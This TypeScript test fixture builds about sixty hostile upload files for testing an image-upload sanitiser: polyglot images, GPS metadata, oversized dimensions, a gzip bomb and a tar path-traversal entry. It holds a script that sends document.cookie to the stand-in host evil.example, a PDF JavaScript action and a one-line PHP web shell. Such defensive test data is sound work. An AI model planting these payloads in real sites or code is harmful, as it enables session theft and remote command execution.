import { deflateRawSync, gzipSync } from "node:zlib";
import {
  ascii,
  exifSegment,
  gpsTiff,
  heic,
  jpeg,
  joinBytes,
  png,
  pngChunk,
  segment,
  webp,
  webpChunk,
} from "../../support/image-bytes";
import type { Chance } from "../../support/seeded";

export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array<ArrayBuffer>;
  /** File extension of the upload. */
  readonly extension: "jpg" | "png" | "webp";
}

/** A marker in every hidden part; no stored byte may contain it. */
export const HIDDEN_TEXT = "HIDDEN-BY-THE-SENDER";
/** The location that `gpsTiff` writes. */
export const PLACE = "151 12 36";
const SCRIPT = `<script>fetch("https://evil.example/?"+document.cookie)//${HIDDEN_TEXT}</script>`;
const MEGABYTE = 1024 * 1024;

/** A ZIP with one compressed file. */
function zip(name: string, content: Uint8Array): Uint8Array<ArrayBuffer> {
  const littleEndian = (value: number, bytes: number) =>
    Uint8Array.from({ length: bytes }, (_, at) => (value >>> (8 * at)) & 255);
  const packed = Uint8Array.from(deflateRawSync(content));
  const header = joinBytes(
    littleEndian(20, 2),
    littleEndian(0, 2),
    littleEndian(8, 2),
    littleEndian(0, 4),
    littleEndian(0, 4),
    littleEndian(packed.length, 4),
    littleEndian(content.length, 4),
    littleEndian(name.length, 2),
    littleEndian(0, 2),
  );
  const localEntry = joinBytes(ascii("PK\x03\x04"), header, ascii(name), packed);
  const centralDirectory = joinBytes(
    ascii("PK\x01\x02"),
    littleEndian(20, 2),
    header,
    littleEndian(0, 10),
    littleEndian(0, 4),
    ascii(name),
  );
  return joinBytes(
    localEntry,
    centralDirectory,
    ascii("PK\x05\x06"),
    littleEndian(0, 4),
    littleEndian(1, 2),
    littleEndian(1, 2),
    littleEndian(centralDirectory.length, 4),
    littleEndian(localEntry.length, 4),
    littleEndian(0, 2),
  );
}

const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const html = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const pdf = `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${HIDDEN_TEXT}"))>>>>endobj`;

/** Files that an attacker could send to harm us or the viewers: sixty kinds, the same for the same seed. */
export function hostileFiles(chance: Chance): readonly HostileFile[] {
  const randomBytes = (length: number) => Uint8Array.from({ length }, () => chance.whole(0, 255));
  const truncate = (bytes: Uint8Array<ArrayBuffer>) => bytes.slice(0, chance.whole(4, bytes.length - 3));
  const flipBits = (bytes: Uint8Array<ArrayBuffer>) =>
    bytes.map((byte, at) => (at > 12 && chance.isBelow(0.1) ? byte ^ (1 << chance.whole(0, 7)) : byte));
  const exif = exifSegment(gpsTiff(6));
  const files: (readonly [name: string, bytes: Uint8Array<ArrayBuffer>, extension?: HostileFile["extension"]])[] = [
    ["SVG with a script", ascii(svg)],
    ["SVG named PNG", ascii(svg), "png"],
    ["SVG after a byte order mark", joinBytes(new Uint8Array([0xef, 0xbb, 0xbf]), ascii(svg)), "webp"],
    ["HTML named JPEG", ascii(html)],
    ["HTML named WebP", ascii(html), "webp"],
    ["HTML behind a JPEG's first bytes", joinBytes(new Uint8Array([0xff, 0xd8, 0xff]), ascii(html))],
    ["HTML behind a GIF's first bytes", ascii(`GIF89a/*${html}`)],
    ["PDF with a script", ascii(pdf)],
    ["PHP", ascii("<?php system($_GET['c']); ?>")],
    ["a Windows program", joinBytes(ascii("MZ"), randomBytes(400))],
    ["an ELF program", joinBytes(new Uint8Array([0x7f]), ascii("ELF"), randomBytes(400))],
    ["JPEG with a script in a comment", jpeg({ before: [segment(0xfe, ascii(SCRIPT))] })],
    ["JPEG with a page after its end", jpeg({ after: ascii(html) })],
    ["JPEG with a ZIP after its end", jpeg({ after: zip("index.html", ascii(html)) })],
    ["JPEG with a PDF after its end", jpeg({ after: ascii(pdf) })],
    ["JPEG whose scan is a page", jpeg({ scan: ascii(html) })],
    ["PNG with a script in its text", png({ extra: [pngChunk("tEXt", ascii(`Comment\0${SCRIPT}`))] }), "png"],
    ["PNG with a page after its end", png({ after: ascii(html) }), "png"],
    ["PNG with a ZIP after its end", png({ after: zip("a.html", ascii(html)) }), "png"],
    ["PNG with an unknown chunk", png({ extra: [pngChunk("hIde", ascii(SCRIPT))] }), "png"],
    [
      "PNG with a compressed page in its profile",
      png({ extra: [pngChunk("iCCP", joinBytes(ascii("x\0\0"), Uint8Array.from(gzipSync(SCRIPT))))] }),
      "png",
    ],
    ["WebP with a script in XMP", webp({ flags: 4, extra: [webpChunk("XMP ", ascii(SCRIPT))] }), "webp"],
    ["WebP with a page after its end", webp({ after: ascii(html) }), "webp"],
    ["WebP with an unknown chunk", webp({ extra: [webpChunk("HIDE", ascii(SCRIPT))] }), "webp"],
    ["JPEG named PNG", jpeg({ before: [segment(0xfe, ascii(HIDDEN_TEXT))] }), "png"],
    ["PNG named JPEG", png({ extra: [pngChunk("tEXt", ascii(HIDDEN_TEXT))] })],
    ["WebP named JPEG", webp()],
    ["HEIC", heic],
    ["GIF", ascii("GIF89a\x01\0\x01\0\0\0\0;")],
    ["BMP", joinBytes(ascii("BM"), randomBytes(60))],
    ["TIFF with a place", joinBytes(gpsTiff(1), randomBytes(40))],
    ["an icon", joinBytes(new Uint8Array([0, 0, 1, 0]), randomBytes(60))],
    ["JPEG with GPS", jpeg({ before: [exif] })],
    ["JPEG with GPS twice", jpeg({ before: [exif, exif] })],
    ["JPEG with GPS in a second picture", jpeg({ after: jpeg({ before: [exif] }) })],
    ["JPEG with GPS under another application's number", jpeg({ before: [segment(0xe7, gpsTiff(1))] })],
    [
      "JPEG with XMP",
      jpeg({ before: [segment(0xe1, ascii(`http://ns.adobe.com/xap/1.0/\0<x>${PLACE} ${HIDDEN_TEXT}</x>`))] }),
    ],
    ["PNG with GPS", png({ extra: [pngChunk("eXIf", gpsTiff(3))] }), "png"],
    ["PNG with GPS in a text", png({ extra: [pngChunk("zTXt", ascii(`Raw profile type exif\0\0${PLACE}`))] }), "png"],
    ["WebP with GPS", webp({ flags: 8, extra: [webpChunk("EXIF", gpsTiff(6))] }), "webp"],
    ["JPEG of 65,535 by 65,535 pixels", jpeg({ width: 65_535, height: 65_535 })],
    ["PNG of two thousand million pixels a side", png({ width: 2_147_483_647, height: 2_147_483_647 }), "png"],
    ["PNG of 12,001 pixels", png({ width: 12_001, height: 1 }), "png"],
    ["WebP of 16,777,216 pixels a side", webp({ width: 16_777_216, height: 16_777_216 }), "webp"],
    ["JPEG of no pixels", jpeg({ width: 0, height: 0 })],
    ["PNG of no pixels", png({ width: 0, height: 0 }), "png"],
    ["nothing", new Uint8Array()],
    ["one byte", new Uint8Array([0xff])],
    ["JPEG cut off", truncate(jpeg({ before: [exif] }))],
    ["PNG cut off", truncate(png())],
    ["WebP cut off", truncate(webp()), "webp"],
    ["JPEG with bits turned", flipBits(jpeg({ before: [exif] }))],
    ["PNG with bits turned", flipBits(png()), "png"],
    ["WebP with bits turned", flipBits(webp()), "webp"],
    ["noise", randomBytes(5_000)],
    ["16 MB", jpeg({ after: new Uint8Array(16 * MEGABYTE) })],
    [
      "JPEG with a thousand comments",
      jpeg({ before: Array.from({ length: 1_000 }, () => segment(0xfe, ascii(HIDDEN_TEXT))) }),
    ],
    [
      "PNG with a thousand texts",
      png({ extra: Array.from({ length: 1_000 }, () => pngChunk("tEXt", ascii(HIDDEN_TEXT))) }),
      "png",
    ],
    ["ZIP", zip("index.html", ascii(html))],
    ["gzip bomb", Uint8Array.from(gzipSync(new Uint8Array(8 * MEGABYTE)))],
    ["tar", joinBytes(ascii("../../index.html"), new Uint8Array(84), randomBytes(412))],
    [
      "PNG whose chunk says it is four gigabytes",
      joinBytes(png().slice(0, 8), new Uint8Array([0xff, 0xff, 0xff, 0xff]), ascii("IHDR"), randomBytes(30)),
      "png",
    ],
  ];
  return files.map(([name, bytes, extension = "jpg"]) => ({ name, bytes, extension }));
}
